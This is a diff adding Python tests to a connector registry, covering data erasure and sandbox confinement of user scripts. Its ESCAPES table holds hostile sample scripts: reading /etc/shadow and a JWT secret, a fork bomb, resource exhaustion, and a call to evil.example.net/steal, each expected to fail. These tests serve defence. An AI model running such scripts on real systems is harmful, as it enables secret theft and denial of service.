@@ -5,6 +5,7 @@ forgets the gone ones; drift is reported; the connector shows its sync health.""
 
 from __future__ import annotations
 
+import dataclasses
 import json
 import time
 from collections.abc import Iterator
@@ -14,10 +15,14 @@ import pytest
 from litestar.testing import TestClient
 from werkzeug import Request, Response
 
+from domain.common import Actor
+from registry.connectors import Access
+from registry.sandbox import Limits, Sandbox
 from registry.service import Registry
 from registry.settings import ConnectionSettings
 from registry.sync import SyncWorker, WorkerThread
-from tests.fixtures import headers, seed_create
+from tests.conftest import Backend
+from tests.fixtures import connector_body, headers, seed_create
 from tests.support.servers import local_server
 
 Client = TestClient[Any]
@@ -26,6 +31,8 @@ SCHEMAS = "/internal/v1/connector/universal/schemas"
 OWNER = headers(roles=("editor",), subject="owner-1")
 READER = headers(roles=("auditor",), subject="auditor-1")
 GLOBEX = headers(tenant="globex")
+ADMIN = headers()
+AS_OWNER = Access(Actor("owner-1", "acme"), roles=("editor",))
 DEADLINE = 60.0
 PAGES: dict[int, list[dict[str, Any]]] = {}
 GATE = {"open": True}
@@ -267,3 +274,146 @@ def test_script_versions_over_http(client: Client, server: str) -> None:
                        json={"name": "v4", "script": "x = 1"}).status_code == 403
     assert client.get(versions, headers=GLOBEX).status_code == 404
     assert client.get(f"{CONNECTORS}/{cnn}/revisions/1", headers=READER).status_code == 200
+
+
+GROUPS = {"name": "Groups", "entityType": "group", "key": "groups",
+          "fields": [{"name": "groupId", "type": "string", "primary": True},
+                     {"name": "label", "type": "string"}]}
+
+
+def marked_script(mark: str) -> str:
+    """Records whose values carry ``mark`` only once built: the script's text (itself marked
+    by a comment) never spells a record value."""
+    return (
+        f"# script text {mark}SCRIPT\n"
+        "def collect(ctx):\n"
+        f"    mark = '{mark[:3]}' + '{mark[3:]}'\n"
+        "    for n in range(3):\n"
+        "        yield ('account', {'userId': f'{mark}REC{n}', 'username': 'u',\n"
+        "                           'email': f'u{n}@example.com', 'role': 'r', 'active': True})\n"
+        "        yield ('group', {'groupId': f'{mark}GRP{n}', 'label': 'g'})\n"
+    )
+
+
+def synced_connector(client: Client, registry: Registry, mark: str) -> tuple[str, list[str]]:
+    """A universal connector with a credential, an account and a group schema, and their
+    records stored by a sync of a marked script."""
+    created = client.post(CONNECTORS, headers=OWNER, json={
+        "name": f"Connector {mark}", "type": "universal", "scope": "org",
+        "config": {"baseUrl": "https://hr.example.com", "allowedHosts": ["hr.example.com"]},
+        "credentials": {"authType": "bearer", "token": f"{mark}CREDENTIAL"}})
+    assert created.status_code == 201, created.text
+    cnn = created.json()["id"]
+    schemas = []
+    for body in (seed_create(), GROUPS):
+        created = client.post(SCHEMAS, headers=OWNER, json=body | {"connectorId": cnn})
+        assert created.status_code == 201, created.text
+        schemas.append(created.json()["id"])
+    client.post(f"{CONNECTORS}/{cnn}/versions", headers=OWNER,
+                json={"name": "v1", "script": marked_script(mark)})
+    job = client.post(f"{CONNECTORS}/{cnn}/sync", headers=OWNER).json()
+    done = SyncWorker(registry.app, "erase-worker").run_once()
+    assert done is not None and done.job_id == job["jobId"] and done.status == "succeeded"
+    assert done.progress.indexed == 6
+    return cnn, schemas
+
+
+def test_erasing_a_schema_or_a_connector_takes_its_records_script_and_credential(
+    client: Client, registry: Registry, backend: Backend,
+) -> None:
+    gone, gone_schemas = synced_connector(client, registry, "WOMBAT")
+    kept, (kept_accounts, kept_groups) = synced_connector(client, registry, "IBEXKEPT")
+
+    erased = client.delete(f"{SCHEMAS}/{kept}/{kept_groups}/erase", headers=ADMIN)
+    assert erased.status_code == 204, erased.text
+    assert client.get(f"{SCHEMAS}/{kept_groups}/records", headers=READER).status_code == 410
+    assert client.delete(f"{CONNECTORS}/{gone}/erase", headers=ADMIN).status_code == 204
+    for schema_id in gone_schemas:
+        assert client.get(f"{SCHEMAS}/{schema_id}/records", headers=READER).status_code == 410
+    assert client.get(f"{CONNECTORS}/{gone}/versions", headers=READER).status_code == 410
+
+    dump = backend.dump()
+    for mark in ("WOMBATREC", "WOMBATGRP", "WOMBATSCRIPT", "WOMBATCREDENTIAL", "IBEXKEPTGRP"):
+        assert mark not in dump, mark
+    if backend.name == "sqlite":
+        assert b"WOMBAT" not in backend.raw_files()
+    left = client.get(f"{SCHEMAS}/{kept_accounts}/records", headers=READER).json()["records"]
+    assert sorted(r["record"]["userId"] for r in left) == [f"IBEXKEPTREC{n}" for n in range(3)]
+
+
+ESCAPES = {
+    "open a socket": ("import socket\n"
+                      "def collect(ctx):\n"
+                      "    socket.create_connection(('127.0.0.1', 5432), timeout=2)\n"
+                      "    yield ('x', {})\n", ("OSError", "ConnectionRefusedError")),
+    "read the registry's database": ("def collect(ctx):\n"
+                                     "    open({db!r}, 'rb').read()\n"
+                                     "    yield ('x', {{}})\n", ("FileNotFoundError",)),
+    "read /etc/shadow": ("def collect(ctx):\n"
+                         "    open('/etc/shadow').read()\n"
+                         "    yield ('x', {})\n", ("FileNotFoundError",)),
+    "read its environment": ("import os\n"
+                             "def collect(ctx):\n"
+                             "    os.environ['REGISTRY_JWT_SECRET']\n"
+                             "    yield ('x', {})\n", ("KeyError",)),
+    "fork bomb": ("import os\n"
+                  "def collect(ctx):\n"
+                  "    while True:\n"
+                  "        os.fork()\n"
+                  "    yield ('x', {})\n", ("at most 16 processes",)),
+    "allocate 8 GiB": ("def collect(ctx):\n"
+                       "    block = bytearray(8 << 30)\n"
+                       "    yield ('x', {'n': len(block)})\n", ("memory limit, 512 MiB",)),
+    "loop forever": ("def collect(ctx):\n"
+                     "    while True:\n"
+                     "        pass\n"
+                     "    yield ('x', {})\n", ("the script used more than its CPU",)),
+    "print 1 GB": ("def collect(ctx):\n"
+                   "    line = 'x' * (1 << 20)\n"
+                   "    for _ in range(1024):\n"
+                   "        print(line)\n"
+                   "    yield ('x', {})\n", ("the script sent more than its output limit",)),
+    "call a host not allowed": ("def collect(ctx):\n"
+                                "    ctx.http.get_json('https://evil.example.net/steal')\n"
+                                "    yield ('x', {})\n", ("HttpError: host not allowed",)),
+}
+
+
+@pytest.fixture
+def confined(backend: Backend) -> Iterator[Registry]:
+    """A registry whose sandbox has small limits, so that each escape ends quickly."""
+    limits = Limits(cpu_seconds=1, memory_bytes=512 << 20, processes=16, wall_seconds=20,
+                    output_bytes=4 << 20)
+    instance = Registry(dataclasses.replace(backend.settings(), sandbox=Sandbox(limits=limits)))
+    try:
+        yield instance
+    finally:
+        instance.close()
+
+
+def test_every_escape_fails_its_job_clearly_and_the_registry_goes_on(
+    confined: Registry, backend: Backend,
+) -> None:
+    worker = SyncWorker(confined.app, "escape-worker")
+    database = backend.url.removeprefix("sqlite:///")
+    for name, (text, expected) in ESCAPES.items():
+        connector = confined.app.create_connector(AS_OWNER, connector_body(f"Escape {name}"))
+        script_text = text.format(db=database) if "{db" in text else text
+        confined.app.save_script_version(AS_OWNER, connector.id,
+                                         {"name": "v1", "script": script_text})
+        confined.app.request_sync(AS_OWNER, connector.id)
+        failed = worker.run_once()
+        assert failed is not None and failed.status == "failed", (name, failed)
+        assert failed.error is not None, name
+        assert any(text in failed.error for text in expected), (name, failed.error)
+        assert "Traceback" not in failed.error and "registry/" not in failed.error
+    # The registry goes on: the next job of a well-behaved script succeeds.
+    good = confined.app.create_connector(AS_OWNER, connector_body("Well behaved"))
+    confined.app.create_schema(AS_OWNER, seed_create() | {"connectorId": good.connector_id})
+    confined.app.save_script_version(AS_OWNER, good.id, {"name": "v1", "script": (
+        "def collect(ctx):\n"
+        "    yield ('account', {'userId': 'u1', 'username': 'a', 'email': 'a@example.com',"
+        " 'role': 'r', 'active': True})\n")})
+    confined.app.request_sync(AS_OWNER, good.id)
+    ok = worker.run_once()
+    assert ok is not None and ok.status == "succeeded" and ok.progress.indexed == 1
